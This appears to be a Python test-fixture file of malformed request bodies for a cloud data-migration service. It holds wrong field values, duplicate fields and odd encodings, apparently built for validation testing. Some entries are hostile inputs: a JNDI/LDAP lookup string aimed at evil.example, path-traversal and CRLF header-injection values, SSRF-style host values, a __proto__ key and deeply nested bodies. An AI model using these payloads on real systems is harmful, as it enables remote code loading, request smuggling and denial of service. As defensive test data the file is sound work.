"""The bodies of malformed messages: wrong values field by field, whole bodies, and fields given twice."""

import json
import zlib
from base64 import b64encode
from typing import Final

REGION: Final = "cn-north-4"
MAX_BYTES: Final = 65536
"""The default limit of a worker; some bodies are built to be larger."""

TASK: Final = {
    "name": "dcs-migration-thrc",
    "description": "Creating an online data migration task",
    "vpc_id": "5e37b3be-950a-48e1-b498-65b63d336481",
    "subnet_id": "40f15ed6-7f85-49d5-ba0e-65b940d4812c",
    "security_group_id": "9df96622-24b7-4813-84b8-ab74552a21d7",
}
GOOD: Final[dict[str, object]] = {
    "request_id": "hostile",
    "project_id": "0123456789abcdef0123456789abcdef",
    "region": REGION,
    "not_after": "2099-12-01T00:00:00Z",
    "task": TASK,
}


def _json(content: object) -> bytes:
    return json.dumps(content).encode()


NO_TEXT: Final[dict[str, object]] = {
    "null": None,
    "true": True,
    "a number": 7,
    "a huge number": 10**400,
    "a list": [],
    "a list of text": ["x"],
    "an object": {},
    "empty": "",
}

WRONG: Final[dict[str, dict[str, object]]] = {
    "request_id": {
        "begins with a dash": "-a",
        "begins with a blank": " a",
        "has a blank": "a b",
        "has a slash": "a/b",
        "ends a line": "a\n",
        "has an accent": "é",
        "has a zero byte": "a\0b",
        "is too long": "a" * 129,
        "is an expression": "${jndi:ldap://evil.example/a}",
    },
    "project_id": {
        "climbs": "../admin",
        "climbs encoded": "%2e%2e%2fadmin",
        "is two dots": "..",
        "has a slash": "a/b",
        "has an encoded slash": "a%2Fb",
        "has a backslash": "a\\b",
        "has a query": "a?limit=1",
        "has a fragment": "a#b",
        "has a parameter": "a;b",
        "has a host": "a@evil.example",
        "has a port": "a:80",
        "has a blank": "a b",
        "ends a line": "a\n",
        "adds a header": "a\r\nX-Evil: 1",
        "has a zero byte": "a\0",
        "has an accent": "projét",
        "has wide digits": "\uff10\uff11",
        "is too long": "a" * 65,
    },
    "region": {
        "is a URL": "https://evil.example",
        "is a host": "evil.example",
        "is an address and port": "127.0.0.1:8080",
        "is an IPv6 address": "[::1]",
        "has a user": "cn-north-4@evil.example",
        "has a domain": "cn-north-4.evil.example",
        "has a path": "cn-north-4/../../v3",
        "has capitals": "CN-NORTH-4",
        "ends a line": "cn-north-4\n",
        "has a zero byte": "cn-north-4\0",
        "has wide digits": "cn-north-\uff14",
        "begins with a dash": "-cn-north-4",
        "is too long": "a" * 65,
        "is not configured": "cn-north-5",
        "is this machine": "localhost",
    },
    "not_after": {
        "is a word": "tomorrow",
        "is a date": "2099-12-01",
        "is a date without dashes": "20991201",
        "is seconds": "4099766400",
        "has no offset": "2099-12-01T00:00:00",
        "has no seconds": "2099-12-01T00:00Z",
        "has a 13th month": "2099-13-01T00:00:00Z",
        "is the 30th of February": "2099-02-30T00:00:00Z",
        "has a 25th hour": "2099-12-01T25:00:00Z",
        "has a far offset": "2099-12-01T00:00:00+25:00",
        "begins with a blank": " 2099-12-01T00:00:00Z",
        "ends a line": "2099-12-01T00:00:00Z\n",
        "is infinite": "infinity",
    },
    "task": {
        "has a name that begins with a blank": TASK | {"name": " a"},
        "has a name that ends with a wide blank": TASK | {"name": "a\u3000"},
        "has a name that ends a line": TASK | {"name": "a\n"},
        "has a name with a control character": TASK | {"name": "a\x85b"},
        "claims a task": TASK | {"description": "mine #rq-3e09871bec2a4f75"},
        "is text": json.dumps(TASK),
        "is a list of it": [TASK],
        "is nested in itself": {"task": TASK},
        "has an unknown field": TASK | {"nmae": "x"},
        "has a class": TASK | {"__class__": "x"},
        "has a capital": {"Name" if name == "name" else name: value for name, value in TASK.items()},
    },
}

_PROJECT: Final = b'"project_id": "0123456789abcdef0123456789abcdef"'
_REST: Final = b'"request_id": "hostile", "task": ' + _json(TASK)

# Good but for a field that stands twice.
REPEATED: Final[dict[str, bytes]] = {
    "another project": b'{"project_id": "other", ' + _PROJECT + b", " + _REST + b"}",
    "the same project": b"{" + _PROJECT + b", " + _PROJECT + b", " + _REST + b"}",
    "an escaped name": b'{"project\\u005fid": "other", ' + _PROJECT + b", " + _REST + b"}",
    "null and then a project": b'{"project_id": null, ' + _PROJECT + b", " + _REST + b"}",
    "quotes and then a project": b'{"project_id": "\\"\\\\\\"", ' + _PROJECT + b", " + _REST + b"}",
    "a number and then a task": b'{"task": 7, ' + _PROJECT + b", " + _REST + b"}",
    "another task": b'{"task": {"name": "other"}, ' + _PROJECT + b", " + _REST + b"}",
    "another task name": b"{" + _PROJECT + b", " + _REST.replace(b'{"name"', b'{"name": "other", "name"') + b"}",
    "another request id": b'{"request_id": "other", ' + _PROJECT + b", " + _REST + b"}",
}

_WHOLE: Final = _json(GOOD)

# Nothing can be addressed to the senders of these.
NO_OBJECT: Final[dict[str, bytes]] = {
    "nothing": b"",
    "a blank": b" ",
    "a zero byte": b"\0",
    "random bytes": bytes(range(256)),
    "words": b"please create a task",
    "markup": b"<request><project_id>a</project_id></request>",
    "a form": b"project_id=a&task=b",
    "YAML": b"project_id: a\ntask:\n  name: b\n",
    "null": b"null",
    "true": b"true",
    "a number": b"7",
    "NaN": b"NaN",
    "text": b'"x"',
    "the request in a list": b"[" + _WHOLE + b"]",
    "the request twice": _WHOLE + _WHOLE,
    "the request and a zero byte": _WHOLE + b"\0",
    "a cut request": _WHOLE[:-1],
    "a bad escape": b'{"project_id": "\\x41"}',
    "a raw control character": b'{"project_id": "a\x01"}',
    "a raw line break": b'{"project_id": "a\n"}',
    "single quotes": b"{'project_id': 'a'}",
    "a trailing comma": b'{"project_id": "a",}',
    "a comment": b'{"project_id": "a" /* ours */}',
    "a number with a zero in front": b'{"project_id": 01}',
    "lists 20,000 deep": b"[" * 20_000 + b"]" * 20_000,
    "64,000 blanks and no JSON": b" " * 64_000 + b"!",
    "brackets without an end": b"[" * 60_000,
    "too much of nothing": b" " * (MAX_BYTES + 1),
    "a list that is too large": b"[" + b"0," * MAX_BYTES + b"0]",
    "braces that are too many": b"{" * (MAX_BYTES + 1),
}

OBJECT: Final[dict[str, bytes]] = {
    "an empty object": b"{}",
    "an object after blanks": b" \t\r\n{}",
    # Their sender can be read all the same.
    "compressed": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\xae\x05\x00\x43\xbf\xa6\xa3\x02\x00\x00\x00",
    "UTF-16": _WHOLE.decode().encode("utf-16"),
    "UTF-16 without a mark": _WHOLE.decode().encode("utf-16-be"),
    "UTF-32": _WHOLE.decode().encode("utf-32"),
    "Latin-1": '{"project_id": "é"}'.encode("latin-1"),
    "an overlong encoding": b'{"project_id": "\xc0\xaf"}',
    "a lone escaped surrogate": b'{"project_id": "\\ud800"}',
    "a lone low surrogate": b'{"project_id": "\\udc00"}',
    "a number of 5,000 digits": b'{"project_id": ' + b"9" * 5000 + b"}",
    "objects 300 deep": b'{"task":' * 300 + b"1" + b"}" * 300,
    "objects 9,000 deep": b'{"task":' * 9_000 + b"1" + b"}" * 9_000,
    "lists 20,000 deep inside": b'{"project_id": ' + b"[" * 20_000 + b"]" * 20_000 + b"}",
    "a second byte order mark": b"\xef\xbb\xbf" * 2 + _WHOLE,
    "a byte order mark inside": _WHOLE.replace(b", ", b",\xef\xbb\xbf ", 1),
    "half a character in a name": b'{"\\ud83d": 1}',
    "a byte order mark and too much": (b"\xef\xbb\xbf" + _WHOLE).ljust(MAX_BYTES + 1),
    "compressed, with zlib": zlib.compress(_WHOLE),
    "in base64": b64encode(_WHOLE),
    "an AMQP 1.0 value": b"\0\x53\x77\xb1" + len(_WHOLE).to_bytes(4) + _WHOLE,
    "a surrogate in UTF-8": b'{"project_id": "\xed\xa0\x80"}',
    "the request as text": _json(_WHOLE.decode()),
    "half an emoji": _json(GOOD | {"task": TASK | {"description": "Umzug \ud83d"}}),
    "camel case": _json({"requestId": "a", "projectId": "b", "task": {"vpcId": "v"}}),
    "a name that is empty": b'{"": 1}',
    "a name that is a zero byte": b'{"\\u0000": 1}',
    "NaN inside": b'{"project_id": NaN}',
    "infinity inside": b'{"project_id": -Infinity}',
    "a number beyond all bounds": b'{"project_id": 1e99999}',
    "objects 150 deep": b'{"task":' * 150 + b"1" + b"}" * 150,
    "an event": _json({"request_id": "a", "project_id": "b", "reason": "rejected", "message": "c"}),
    "a task alone": _json(TASK),
    "a request in an envelope": _json({"payload": GOOD}),
    "a thousand unknown fields": _json(GOOD | {f"unknown_{number}": number for number in range(1000)}),
    "an unknown field with a long name": _json(GOOD | {"x" * 10_000: 1}),
    "a prototype": _json(GOOD | {"__proto__": {"project_id": "b"}}),
    "a capital": _json({"Project_id": "a", "task": TASK}),
    "a good request and blanks up to beyond the limit": _WHOLE.ljust(MAX_BYTES + 1),
    "a text that is too large": _json(GOOD | {"task": TASK | {"description": "x" * MAX_BYTES}}),
    "a text that is far too large": _json(GOOD | {"task": TASK | {"description": "x" * 5 * MAX_BYTES}}),
}
